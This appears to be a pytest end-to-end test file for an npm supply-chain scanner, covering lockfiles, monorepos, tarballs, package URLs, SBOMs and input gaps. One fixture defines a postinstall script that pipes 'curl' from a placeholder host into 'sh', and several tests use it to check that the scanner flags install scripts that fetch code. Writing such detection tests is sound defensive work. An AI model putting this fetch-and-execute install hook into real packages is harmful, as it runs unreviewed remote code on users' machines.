"""Every other kind of target: folders, manifests, trees, tarballs, names, package URLs, several at once."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.end_to_end import locked
from tests.end_to_end.run import Machine
from tests.registry_simulator import RegistrySimulator, pack

FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}


def origins(done_by_ref: dict[str, dict[str, object]]) -> dict[str, object]:
    return {ref: each["origin"] for ref, each in done_by_ref.items()}


def test_a_folder_is_scanned_by_its_lockfile_and_so_is_the_current_folder(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    locked.project_of(project, registry.publish("plain-thing", "1.2.3"), registry.publish("other-thing"))
    registry.publish("plain-thing", "1.9.0")
    named = machine.scan(project)
    here = machine.scan(cwd=project)
    for done in (named, here):
        assert done.code == 0
        assert done.refs == {"plain-thing@1.2.3", "other-thing@1.0.0"}
        assert [each["kind"] for each in done.report["inputs"]] == ["package-lock v3"]
    assert here.report["inputs"][0]["target"] == "package-lock.json"
    assert named.report["inputs"][0]["target"] == str(project / "package-lock.json")


def test_every_lockfile_of_a_monorepo_is_read_and_a_release_is_listed_once(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    shared, web, tool = (registry.publish(name) for name in ("shared-thing", "web-thing", "tool-thing"))
    locked.project_of(project / "web", shared, web)
    (project / "tools/deep").mkdir(parents=True)
    (project / "tools/deep/pnpm-lock.yaml").write_text(locked.pnpm_9([shared, tool]))
    (project / "old").mkdir()
    (project / "old/yarn.lock").write_text(locked.yarn_1([shared]))
    (project / ".gitignore").write_text("old\n")
    (project / "web/node_modules/stray").mkdir(parents=True)
    (project / "web/node_modules/stray/package.json").write_text('{"name": "stray", "version": "6.6.6"}')
    done = machine.scan(project)
    assert done.code == 0
    assert done.refs == {"shared-thing@1.0.0", "web-thing@1.0.0", "tool-thing@1.0.0"}
    assert [Path(each["target"]).relative_to(project).as_posix() for each in done.report["inputs"]] == [
        "old/yarn.lock",
        "tools/deep/pnpm-lock.yaml",
        "web/package-lock.json",
    ]
    assert len(done.by_ref["shared-thing@1.0.0"]["usages"]) == 3
    assert registry.paths().count("/shared-thing") == 1


def test_a_workspace_is_the_users_own_and_no_record_or_registry_speaks_of_it(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    plain = registry.publish("plain-thing")
    document = json.loads(locked.npm([plain]))
    document["packages"][""]["workspaces"] = ["packages/*"]
    document["packages"]["packages/own-thing"] = {"name": "own-thing", "version": "3.0.0"}
    document["packages"]["node_modules/own-thing"] = {"resolved": "packages/own-thing", "link": True}
    (project / "package-lock.json").write_text(json.dumps(document, indent=2))
    done = machine.scan(project)
    assert done.code == 0
    assert origins(done.by_ref) == {"own-thing@3.0.0": "workspace", "plain-thing@1.0.0": "registry"}
    assert "/own-thing" not in registry.paths()
    assert done.report["coverage"]["local"] == 1


def test_what_comes_from_elsewhere_is_a_gap_and_never_silence(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    lines = ["# yarn lockfile v1", "", '"git-thing@git+https://git.invalid/thing.git":', '  version "1.0.0"']
    lines += ['  resolved "git+https://git.invalid/thing.git#0123456789012345678901234567890123456789"', ""]
    lines += ['"url-thing@https://files.invalid/url-thing.tgz":', '  version "2.0.0"']
    lines += ['  resolved "https://files.invalid/url-thing.tgz"', ""]
    (project / "yarn.lock").write_text("\n".join(lines))
    done = machine.scan(project)
    assert done.code == 3
    assert origins(done.by_ref) == {"git-thing@1.0.0": "git", "url-thing@2.0.0": "tarball-url"}
    assert "does not fetch" in done.why_not("git-thing@1.0.0")
    assert "does not fetch" in done.why_not("url-thing@2.0.0")
    assert registry.requests == []


def test_a_package_json_without_a_lockfile_is_resolved_as_npm_would(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    registry.publish("deep-thing", "1.0.0")
    registry.publish("deep-thing", "1.4.0")
    registry.publish("deep-thing", "2.0.0")
    registry.publish("plain-thing", "1.2.3", manifest={"dependencies": {"deep-thing": "^1.0.0"}})
    registry.publish("plain-thing", "2.0.0-rc.1", tag="next")
    registry.publish("dev-thing", "0.1.0")
    fields = {"name": "shop", "private": True, "dependencies": {"plain-thing": "^1.0.0"}}
    (project / "package.json").write_text(json.dumps({**fields, "devDependencies": {"dev-thing": "*"}}, indent=2))
    done = machine.scan(project)
    assert done.code == 0
    assert done.refs == {"plain-thing@1.2.3", "deep-thing@1.4.0", "dev-thing@0.1.0"}
    assert done.by_ref["deep-thing@1.4.0"]["paths"] == [["shop", "plain-thing", "deep-thing"]]
    assert done.by_ref["dev-thing@0.1.0"]["usages"][0]["type"] == "development"
    assert machine.scan(project / "package.json", "--no-deps").refs == {"plain-thing@1.2.3", "dev-thing@0.1.0"}


def test_an_installed_tree_is_read_where_it_lies(registry: RegistrySimulator, machine: Machine, project: Path) -> None:
    for name, more in (("plain-thing", {}), ("@acme-test/scoped-thing", {}), ("script-thing", FETCHES)):
        registry.publish(name, manifest=more)
        folder = project / "node_modules" / name
        folder.mkdir(parents=True)
        (folder / "package.json").write_text(json.dumps({"name": name, "version": "1.0.0", **more}))
        (folder / "index.js").write_text("module.exports = 1;\n")
    by_folder = machine.scan(project)
    by_tree = machine.scan(project / "node_modules")
    for done in (by_folder, by_tree):
        assert done.refs == {"plain-thing@1.0.0", "@acme-test/scoped-thing@1.0.0", "script-thing@1.0.0"}
        assert "install-script-fetches" in done.rules("script-thing@1.0.0")
        assert done.rules("plain-thing@1.0.0") == set()


def test_a_tarball_is_inspected_from_its_bytes_alone(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    own = {"name": "given-thing", "version": "9.9.9", **FETCHES}
    file = project / "given-thing-9.9.9.tgz"
    file.write_bytes(pack({"index.js": "module.exports = 1;\n"}, manifest=own))
    done = machine.scan(file)
    assert done.code == 1
    assert origins(done.by_ref) == {"given-thing@9.9.9": "target"}
    assert "install-script-fetches" in done.rules("given-thing@9.9.9")
    assert registry.requests == []


def test_an_unpacked_package_is_inspected_and_its_dependencies_are_resolved(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    registry.publish("plain-thing", "1.2.3")
    own = {"name": "given-thing", "version": "9.9.9", "dependencies": {"plain-thing": "^1.0.0"}, **FETCHES}
    (project / "package.json").write_text(json.dumps(own, indent=2))
    (project / "index.js").write_text("module.exports = 1;\n")
    done = machine.scan(project)
    assert done.code == 1
    assert origins(done.by_ref) == {"given-thing@9.9.9": "target", "plain-thing@1.2.3": "registry"}
    assert "install-script-fetches" in done.rules("given-thing@9.9.9")


@pytest.mark.parametrize(
    ("word", "refs"),
    [
        ("plain-thing", {"plain-thing@1.2.3", "deep-thing@1.0.0"}),
        ("plain-thing@1.0.0", {"plain-thing@1.0.0"}),
        ("plain-thing@^1.0.0", {"plain-thing@1.2.3", "deep-thing@1.0.0"}),
        ("plain-thing@<1.2.0", {"plain-thing@1.0.0"}),
        ("plain-thing@next", {"plain-thing@2.0.0-rc.1"}),
        ("npm:plain-thing@1.0.0", {"plain-thing@1.0.0"}),
        ("mine@npm:plain-thing@1.0.0", {"plain-thing@1.0.0"}),
        ("pkg:npm/plain-thing@1.0.0", {"plain-thing@1.0.0"}),
        ("pkg:npm/%40acme-test/scoped-thing", {"@acme-test/scoped-thing@0.4.0"}),
        ("@acme-test/scoped-thing@~0.4", {"@acme-test/scoped-thing@0.4.0"}),
    ],
)
def test_words_for_releases(word: str, refs: set[str], registry: RegistrySimulator, machine: Machine) -> None:
    registry.publish("deep-thing")
    registry.publish("@acme-test/scoped-thing", "0.4.0")
    registry.publish("plain-thing", "1.0.0")
    registry.publish("plain-thing", "1.2.3", manifest={"dependencies": {"deep-thing": "*"}})
    registry.publish("plain-thing", "2.0.0-rc.1", tag="next")
    done = machine.scan(word)
    assert (done.code, done.refs) == (0, refs)


def test_a_folder_wins_over_a_package_of_its_name_unless_npm_is_said(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    registry.publish("plain-thing", "1.2.3")
    locked.project_of(project / "plain-thing", registry.publish("other-thing"))
    assert machine.scan("plain-thing", cwd=project).refs == {"other-thing@1.0.0"}
    assert machine.scan("npm:plain-thing", cwd=project).refs == {"plain-thing@1.2.3"}
    checked = json.loads(machine.assay("check", "plain-thing", "--format", "json", cwd=project).stdout)
    assert (checked["name"], checked["release"]["version"]) == ("plain-thing", "1.2.3")


def test_several_targets_at_once(registry: RegistrySimulator, machine: Machine, project: Path) -> None:
    plain, other = registry.publish("plain-thing", "1.2.3"), registry.publish("other-thing")
    locked.project_of(project, plain)
    (project / "given.tgz").write_bytes(pack({}, manifest={"name": "given-thing", "version": "0.0.1"}))
    (project / "bom.json").write_text(locked.cyclonedx([plain, other]))
    done = machine.scan(project / "package-lock.json", project / "given.tgz", project / "bom.json", "other-thing")
    assert done.code == 0
    assert done.refs == {"plain-thing@1.2.3", "other-thing@1.0.0", "given-thing@0.0.1"}
    assert [each["kind"].split()[0] for each in done.report["inputs"]] == [
        "package-lock",
        "tarball",
        "CycloneDX",
        "name",
    ]


def test_a_name_that_does_not_exist_and_a_version_that_is_gone(registry: RegistrySimulator, machine: Machine) -> None:
    registry.publish("plain-thing", "1.0.0")
    done = machine.scan("no-such-thing-here@1.0.0", "plain-thing@7.7.7")
    assert "name-not-in-registry" in done.rules("no-such-thing-here@1.0.0")
    assert "release-not-in-registry" in done.rules("plain-thing@7.7.7")


@pytest.mark.parametrize(
    ("word", "message"),
    [
        ("missing/package-lock.json", "there is no file or folder missing/package-lock.json"),
        ("./plain-thing", "npm:plain-thing"),
        ("", "an empty word"),
        ("UPPER CASE", "is not a package name"),
        ("https://files.invalid/thing.tgz", "is an address"),
        ("pkg:pypi/six@1.0.0", "is not the package URL of an npm package"),
    ],
)
def test_words_that_mean_nothing_are_wrong_use(word: str, message: str, machine: Machine) -> None:
    done = machine.scan(word)
    assert (done.code, done.stdout) == (2, "")
    assert done.stderr.startswith("assay: ")
    assert message in done.stderr


def test_a_folder_with_nothing_to_scan_is_wrong_use(machine: Machine, project: Path) -> None:
    (project / "README.md").write_text("# Nothing\n")
    done = machine.scan(project)
    assert (done.code, done.stdout) == (2, "")
    assert f"nothing to scan in {project}" in done.stderr
    assert "name a project folder" in done.stderr


@pytest.mark.parametrize(
    ("name", "content", "why", "hint"),
    [
        (
            "bun.lockb",
            b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x02\0\0\0",
            "binary format",
            "--save-text-lockfile",
        ),
        ("package-lock.json", b'{\n  "lockfileVersion": 9\n}\n', "unknown lockfileVersion 9", "--lockfile-version 3"),
        ("yarn.lock", b"__metadata:\n  version: 99\n", "99", ""),
        ("pnpm-lock.yaml", b"lockfileVersion: '99.0'\n", "99", ""),
        ("bun.lock", b'{\n  "lockfileVersion": 99,\n  "workspaces": {}\n}\n', "99", ""),
        ("deno.lock", b'{\n  "version": "99"\n}\n', "99", ""),
        ("notes.txt", b"nothing of the kind\n", "not a lockfile", "known are"),
    ],
)
def test_what_cannot_be_read_is_said_with_what_to_do(
    name: str, content: bytes, why: str, hint: str, registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    (project / name).write_bytes(content)
    done = machine.scan(project / name)
    assert done.code == 2
    (gap,) = done.input_gaps
    assert why in gap["why"]
    assert hint in gap["hint"]
    assert gap["hint"]
    assert gap["location"]["file"] == str(project / name)
    locked.project_of(project / "beside", registry.publish("plain-thing"))
    both = machine.scan(project / name, project / "beside")
    assert (both.code, both.refs) == (2, {"plain-thing@1.0.0"})


def test_an_unreadable_lockfile_below_a_folder_is_a_gap_and_the_others_are_read(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    locked.project_of(project / "good", registry.publish("plain-thing"))
    (project / "bad").mkdir()
    (project / "bad/bun.lockb").write_bytes(b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x02\0\0\0")
    done = machine.scan(project)
    assert (done.code, done.refs) == (3, {"plain-thing@1.0.0"})
    assert [gap["location"]["file"] for gap in done.input_gaps] == [str(project / "bad/bun.lockb")]
    assert done.report["coverage"]["inputs_unread"] == 1
    assert machine.scan(project, "--allow-gaps").code == 0


def test_an_sbom_below_a_folder_is_read_if_it_is_all_there_is_and_named_if_not(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    listed, plain = registry.publish("listed-thing"), registry.publish("plain-thing")
    (project / "release").mkdir()
    (project / "release/bom.json").write_text(locked.cyclonedx([listed, plain]))
    alone = machine.scan(project)
    assert (alone.code, alone.refs) == (0, {"listed-thing@1.0.0", "plain-thing@1.0.0"})
    assert alone.report["coverage"]["notes"] == []
    locked.project_of(project, plain)
    beside = machine.scan(project)
    assert (beside.code, beside.refs) == (0, {"plain-thing@1.0.0"})
    (note,) = beside.report["coverage"]["notes"]
    assert note.startswith(f"{project}/release/bom.json looks like an SBOM and was not read")


def test_what_of_a_projects_npmrc_is_not_followed_is_said(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    locked.project_of(project, registry.publish("plain-thing"))
    (project / ".npmrc").write_text("strict-ssl=false\n")
    done = machine.scan(project)
    assert done.code == 0
    (note,) = done.report["coverage"]["notes"]
    assert note == f"strict-ssl in {project}/.npmrc was not followed: set it in your own .npmrc"
